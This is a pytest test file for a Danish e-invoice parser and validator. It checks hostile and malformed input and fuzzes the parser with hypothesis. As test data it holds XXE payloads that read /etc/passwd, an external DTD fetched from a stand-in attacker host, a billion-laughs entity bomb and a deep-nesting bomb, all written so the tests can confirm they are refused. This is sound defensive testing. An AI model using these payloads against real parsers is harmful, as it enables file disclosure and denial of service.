"""Hostile and broken input: every unreadable file gets a clear EInvoiceError (reason, file,
English and Danish text), never a crash; ``validate_files`` turns it into a KS-PARSE error.
The parser and the validator are fuzzed with hypothesis (random bytes, truncated and mutated
official examples)."""

from __future__ import annotations

import gc
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from koncernservice.finance.einvoice import (
    EInvoiceError,
    parse_document,
    validate,
    validate_bytes,
    validate_files,
)
from koncernservice.finance.einvoice.engine import failed_ids

from .conftest import EINVOICE_DATA

MINI = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
    b'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">'
    b"<cbc:ID>1</cbc:ID><cbc:Note>Bl\xc3\xa5b\xc3\xa6r</cbc:Note></Invoice>"
)
MASTER = EINVOICE_DATA / "peppol-dk/Example-files/BIS3_Invoice_Example_DK_Supplier_Master.xml"


def _reason(data: bytes, **kw) -> EInvoiceError:
    with pytest.raises(EInvoiceError) as info:
        parse_document(data, filename="bad.xml", **kw)
    err = info.value
    assert err.file == "bad.xml"
    assert err.message and err.message_da and err.message != err.message_da
    return err


def test_malformed_xml_says_where() -> None:
    err = _reason(b"<Invoice><cbc:ID>1</Invoice>")
    assert err.reason == "malformed"
    assert err.location.startswith("line 1")


def test_truncated_document_is_malformed() -> None:
    assert _reason(MINI[:-20]).reason == "malformed"


def test_latin1_bytes_declared_as_utf8_is_an_encoding_error() -> None:
    data = MINI.replace("Blåbær".encode(), "Blåbær".encode("latin-1"))
    assert _reason(data).reason == "encoding"


def test_unknown_encoding_name_is_an_encoding_error() -> None:
    data = MINI.replace(b'encoding="UTF-8"', b'encoding="KLINGON-8"')
    assert _reason(data).reason == "encoding"


def test_latin1_declared_as_latin1_is_fine() -> None:
    data = MINI.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"').replace(
        "Blåbær".encode(), "Blåbær".encode("latin-1")
    )
    assert parse_document(data).document.notes == ["Blåbær"]


def test_byte_order_marks_are_accepted() -> None:
    plain = parse_document(MINI)
    bom8 = parse_document(b"\xef\xbb\xbf" + MINI)
    text = MINI.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    bom16 = parse_document(text.encode("utf-16"))  # with BOM
    assert plain.document.notes == bom8.document.notes == bom16.document.notes == ["Blåbær"]


def test_bom_does_not_change_the_verdict() -> None:
    data = MASTER.read_bytes()
    a = validate(parse_document(data))
    b = validate(parse_document(b"\xef\xbb\xbf" + data))
    assert [f.rule for f in a] == [f.rule for f in b]


def test_xxe_is_refused_and_the_file_is_never_read() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&xxe;</Invoice>'
    )
    err = _reason(data)
    assert err.reason == "dtd-forbidden"
    assert "root:" not in err.message


def test_external_dtd_and_parameter_entities_are_refused() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd">'
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>'
    )
    assert _reason(data).reason == "dtd-forbidden"


def test_billion_laughs_is_refused_quickly() -> None:
    ents = b"".join(
        b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">'
        % ((i,) + (i - 1,) * 10)
        for i in range(1, 10)
    )
    data = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">' + ents + b"]><lolz>&l9;</lolz>"
    )
    started = time.perf_counter()
    assert _reason(data).reason == "dtd-forbidden"
    assert time.perf_counter() - started < 1.0


def test_doctype_late_in_a_big_prolog_is_still_refused() -> None:
    data = (
        b"<?xml version='1.0'?>"
        + b"<!-- pad -->" * 10000
        + b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"
    )
    assert _reason(data).reason in ("dtd-forbidden", "unknown-document")


def test_size_limit() -> None:
    err = _reason(MINI, max_bytes=100)
    assert err.reason == "too-large"
    assert "100" in err.message


def test_large_official_example_with_attachment_passes_the_default_limit() -> None:
    path = (
        EINVOICE_DATA
        / "en16931/ubl/examples/FT G2G_TD01 con Allegato, Bonifico e Split Payment.xml"
    )
    assert parse_document(path.read_bytes()).format == "peppol"


def test_pdf_instead_of_xml() -> None:
    err = _reason(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj")
    assert err.reason == "not-xml"
    assert "PDF" in err.message and "PDF" in err.message_da


@pytest.mark.parametrize(
    "data", [b"PK\x03\x04zipzip", b"\x89PNG\r\n\x1a\n", b"hello, this is not xml", b"\x00\x01\x02"]
)
def test_other_non_xml_content(data: bytes) -> None:
    assert _reason(data).reason in ("not-xml", "malformed", "encoding")


def test_empty_file() -> None:
    assert _reason(b"").reason == "empty"
    assert _reason(b"  \n ").reason == "empty"


@pytest.mark.parametrize(
    "data",
    [
        b"<html><body>Invoice</body></html>",
        b'<Invoice xmlns="urn:example:not-ubl"/>',
        b"<rsm:CrossIndustryInvoice "
        b'xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>',
        b'<cbc:ID xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">'
        b"1</cbc:ID>",
    ],
)
def test_unknown_document_types(data: bytes) -> None:
    err = _reason(data)
    assert err.reason == "unknown-document"
    assert err.location.startswith("/")


def test_deep_nesting_is_refused_not_a_crash() -> None:
    data = (
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">'
        + b"<a>" * 5000
        + b"</a>" * 5000
        + b"</Invoice>"
    )
    assert _reason(data).reason == "malformed"


def test_validate_files_reports_unreadable_files_without_raising(tmp_path: Path) -> None:
    files = {
        "a.pdf": b"%PDF-1.4 ...",
        "b.xml": b"<Invoice><broken>",
        "c.xml": MINI,
        "d.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    paths = [tmp_path / n for n in files] + [tmp_path / "missing.xml"]
    results = validate_files(paths)
    assert [r["file"] for r in results] == [str(p) for p in paths]
    by_name = {Path(r["file"]).name: r for r in results}
    for name in ("a.pdf", "b.xml", "d.xml", "missing.xml"):
        r = by_name[name]
        assert r["format"] is None and r["valid"] is False
        assert len(r["errors"]) == 1
        assert set(r["errors"][0]) == {"rule", "severity", "location", "message"}
        assert r["errors"][0]["severity"] == "fatal"
    assert by_name["a.pdf"]["errors"][0]["rule"] == "KS-PARSE"
    assert "not-xml" in by_name["a.pdf"]["errors"][0]["message"]
    assert by_name["d.xml"]["errors"][0]["message"].startswith("dtd-forbidden")
    assert by_name["missing.xml"]["errors"][0]["rule"] == "KS-READ"
    assert by_name["c.xml"]["format"] == "peppol"  # readable (a fragment: rules report it)
    assert by_name["c.xml"]["valid"] is False


def test_validate_files_limits_size_before_reading(tmp_path: Path) -> None:
    p = tmp_path / "big.xml"
    p.write_bytes(MINI + b" " * 5000)
    (r,) = validate_files([p], max_bytes=1000)
    assert r["errors"][0]["message"].startswith("too-large")


# --------------------------------------------------------------------------- fuzzing

FUZZ = settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow], database=None
)


def _never_crashes(data: bytes) -> None:
    try:
        parsed = parse_document(data, filename="fuzz.xml")
    except EInvoiceError as exc:
        assert exc.reason and exc.message and exc.message_da
        return
    validate(parsed)  # the rules never raise on a parsed document
    parsed.document  # noqa: B018 - nor does building the model
    result = validate_bytes(data, filename="fuzz.xml")
    assert set(result) == {"file", "format", "valid", "errors"}


@FUZZ
@given(st.binary(max_size=2000))
def test_fuzz_random_bytes(data: bytes) -> None:
    _never_crashes(data)


@FUZZ
@given(st.text(alphabet="<>/=\"' &;abcI:xmlns?!-[]DOCTYPE", max_size=300))
def test_fuzz_markup_soup(text: str) -> None:
    _never_crashes(text.encode())


@FUZZ
@given(st.integers(min_value=0, max_value=40_000))
def test_fuzz_truncated_official_example(cut: int) -> None:
    data = MASTER.read_bytes()
    _never_crashes(data[: cut % (len(data) + 1)])


@FUZZ
@given(
    st.lists(
        st.tuples(st.integers(min_value=0), st.integers(min_value=0, max_value=255)), max_size=8
    )
)
def test_fuzz_mutated_official_example(flips: list[tuple[int, int]]) -> None:
    data = bytearray(MASTER.read_bytes())
    for pos, value in flips:
        data[pos % len(data)] = value
    _never_crashes(bytes(data))


_VALUES = st.sampled_from(
    [
        "",
        "abc",
        "-1",
        "1e3",
        "0.001",
        "NaN",
        "INF",
        "2026-02-30",
        "DK",
        "99999999999999999999.5",
        " 1 ",
    ]
)


@FUZZ
@given(
    st.lists(st.tuples(st.integers(min_value=0, max_value=400), _VALUES), min_size=1, max_size=5)
)
def test_fuzz_element_values_of_official_example(changes: list[tuple[int, str]]) -> None:
    """Replace leaf values (amounts, dates, codes) with odd ones: the rules must report, not
    crash (an uncastable value gives RULES-EVALUATION-ERROR like the official route)."""
    from lxml import etree

    root = etree.fromstring(MASTER.read_bytes())
    leaves = [el for el in root.iter() if isinstance(el.tag, str) and len(el) == 0]
    for index, value in changes:
        leaves[index % len(leaves)].text = value
    _never_crashes(etree.tostring(root))


def test_many_distinct_element_names_validate_in_reasonable_time() -> None:
    body = b"".join(b"<x%d>v</x%d>" % (i, i) for i in range(3000))
    data = (
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">'
        + body
        + b"</Invoice>"
    )
    started = time.perf_counter()
    findings = validate(parse_document(data))
    assert time.perf_counter() - started < 20
    assert any(f.rule == "BR-01" for f in findings)  # the rules still report


def test_validation_timeout_is_a_clear_error_not_a_hang(tmp_path: Path) -> None:
    parsed = parse_document(MASTER.read_bytes(), filename="m.xml")
    with pytest.raises(EInvoiceError) as info:
        validate(parsed, timeout=0)
    assert info.value.reason == "timeout" and info.value.file == "m.xml"
    assert validate(parsed, timeout=60)  # the same document validates with time enough
    p = tmp_path / "m.xml"
    p.write_bytes(MASTER.read_bytes())
    (r,) = validate_files([p], timeout=0)
    assert r["format"] == "peppol" and r["valid"] is False
    assert [e["rule"] for e in r["errors"]] == ["KS-TIMEOUT"]


def test_validation_pauses_the_garbage_collector_only_while_it_runs() -> None:
    """validate() switches the cyclic collector off for speed and must hand it back as it
    found it, also when the rules time out; the verdict is the same either way, and the
    converted tree is freed by reference counting (no cyclic garbage left behind)."""
    data = MASTER.read_bytes()
    assert gc.isenabled()
    with_gc = failed_ids(validate(parse_document(data)))
    assert gc.isenabled()
    with pytest.raises(EInvoiceError):
        validate(parse_document(data), timeout=0)
    assert gc.isenabled()
    gc.disable()
    try:
        assert failed_ids(validate(parse_document(data))) == with_gc
        assert not gc.isenabled()  # a caller's choice to keep it off is kept
    finally:
        gc.enable()
    gc.collect()
    validate(parse_document(data))
    assert gc.collect() == 0  # nothing cyclic for the collector to clean up afterwards


def test_large_documents_are_flagged_for_the_separate_queue() -> None:
    big = (
        EINVOICE_DATA
        / "en16931/ubl/examples/FT G2G_TD01 con Allegato, Bonifico e Split Payment.xml"
    )
    assert parse_document(big.read_bytes()).is_large
    assert not parse_document(MASTER.read_bytes()).is_large
